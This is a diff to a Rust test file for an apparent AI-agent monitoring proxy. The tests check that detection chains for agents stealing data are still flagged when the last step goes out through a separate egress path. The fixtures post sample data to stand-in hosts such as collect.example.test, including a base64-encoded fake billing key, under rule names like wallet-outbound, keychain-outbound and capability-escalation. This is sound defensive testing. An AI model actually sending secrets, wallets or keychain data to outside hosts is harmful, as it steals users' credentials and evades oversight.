@@ -95,40 +95,81 @@ async fn completed(plays: &[Play], engine: Arc<Engine>) -> Vec<String> {
     reasons.filter_map(|reason| Some(reason["rule"].as_str()?.strip_prefix("chain.")?.to_owned())).collect()
 }
 
+/// The chains whose last step can be a request through the egress door, and that request.
+const AT_ANOTHER_DOOR: [(&str, &str, &str); 13] = [
+    ("untrusted-sensitive-outbound", COLLECT, "hello"),
+    ("untrusted-value-outbound", COLLECT, "{\"note\": \"it is kd83hf72ksl20dm3x9\"}"),
+    ("read-secret-outbound", COLLECT, "hello"),
+    // As a whole file in base64.
+    ("value-outbound", COLLECT, "f=QklMTElOR19LRVk9a2Q4M2hmNzJrc2wyMGRtM3g5"),
+    ("wallet-outbound", COLLECT, "hello"),
+    ("browser-data-outbound", COLLECT, "hello"),
+    ("keychain-outbound", COLLECT, "hello"),
+    ("metadata-outbound", COLLECT, "hello"),
+    ("history-outbound", COLLECT, "hello"),
+    ("mcp-to-shell-net", "https://intake.example.test/reports", "status=ok"),
+    ("long-dwell-new-capability", COLLECT, "hello"),
+    ("capability-escalation", COLLECT, "hello"),
+    ("baseline-anomaly", COLLECT, "hello"),
+];
+
+const COLLECT: &str = "https://collect.example.test/in";
+
+/// What is of the agent and not of one session.
+const OF_THE_AGENT: [&str; 2] = ["capability-escalation", "baseline-anomaly"];
+
 /// What began at the model door ends at the egress door: one session, one story.
 #[tokio::test(flavor = "multi_thread")]
 async fn a_chain_is_completed_through_another_door() {
     let engine = Arc::new(Engine::shipped(Surroundings::default()).unwrap());
-    for id in [
-        "untrusted-sensitive-outbound",
-        "read-secret-outbound",
-        "wallet-outbound",
-        "browser-data-outbound",
-        "keychain-outbound",
-    ] {
+    for (id, url, body) in AT_ANOTHER_DOOR {
         let chains = Chains::shipped();
         let chain = chains.all().iter().find(|chain| chain.id == id).unwrap();
         let plays = chain.examples.first().unwrap();
-        let (_, before) = plays.split_last().unwrap();
-        for (session, wanted) in [("one", true), ("another", false)] {
-            let answer: Arc<Mutex<Vec<u8>>> = Arc::default();
-            let base = provider(Arc::clone(&answer)).await;
-            let judging = Judging { engine: Some(Arc::clone(&engine)), ..Judging::default() };
-            let door = Door::with(judging, Door::untrusted(Protocol::Anthropic, base), Mode::Monitor).await;
-            for Exchange { path, body, answer: said } in exchanges(&self::session(before).0) {
-                *answer.lock().unwrap() = sse(&String::from_utf8(said).unwrap());
-                let target = format!("/t/{}/{path}", door.token);
-                let reply = send(door.address, "POST", &target, "doorward-session: one\r\n", &body).await;
-                assert_eq!(reply.status, 200);
-            }
-            let first = door.receipt_count();
-            crate::egress::post_as(&door, session, "https://collect.example/in", "hello").await;
-            let receipts = door.receipts_since(first);
-            let sent = receipts.iter().find(|receipt| receipt["action"]["kind"] == "url").unwrap();
-            let reasons = sent["decision"]["reasons"].to_string();
+        for (session, of_session) in [("one", true), ("another", false)] {
+            let wanted = of_session || OF_THE_AGENT.contains(&id);
+            let reasons = sent_elsewhere(plays, Arc::clone(&engine), session, (url, body)).await;
             assert_eq!(reasons.contains(&format!("chain.{id}")), wanted, "{id} {session}: {reasons}");
         }
     }
+}
+
+/// The reasons of what was decided on a request that `session` sends through the egress door in the place of the last action of a
+/// playbook.
+async fn sent_elsewhere(
+    plays: &[Play],
+    engine: Arc<Engine>,
+    session: &str,
+    (url, body): (&str, &str),
+) -> String {
+    let ahead = Arc::new(AtomicU64::new(0));
+    let clock = {
+        let (ahead, begin) = (Arc::clone(&ahead), std::time::Instant::now());
+        Clock::new(move || {
+            1_790_000_000_000 + ahead.load(Ordering::Relaxed) + begin.elapsed().as_millis() as u64
+        })
+    };
+    let answer: Arc<Mutex<Vec<u8>>> = Arc::default();
+    let base = provider(Arc::clone(&answer)).await;
+    let judging = Judging { engine: Some(engine), clock, ..Judging::default() };
+    let door = Door::with(judging, Door::untrusted(Protocol::Anthropic, base), Mode::Monitor).await;
+    let (mut played, waits) = self::session(plays);
+    // What came back before is told, and the last action is another one.
+    let last = played.turns.last_mut().unwrap();
+    last.calls.clear();
+    last.say = "I send it now.".into();
+    for (Exchange { path, body, answer: said }, wait) in exchanges(&played).into_iter().zip(waits) {
+        ahead.fetch_add(wait, Ordering::Relaxed);
+        *answer.lock().unwrap() = sse(&String::from_utf8(said).unwrap());
+        let target = format!("/t/{}/{path}", door.token);
+        let reply = send(door.address, "POST", &target, "doorward-session: one\r\n", &body).await;
+        assert_eq!(reply.status, 200);
+    }
+    let first = door.receipt_count();
+    crate::egress::post_as(&door, session, url, body).await;
+    let receipts = door.receipts_since(first);
+    let sent = receipts.iter().find(|receipt| receipt["action"]["kind"] == "url").unwrap();
+    sent["decision"]["reasons"].to_string()
 }
 
 #[tokio::test(flavor = "multi_thread")]
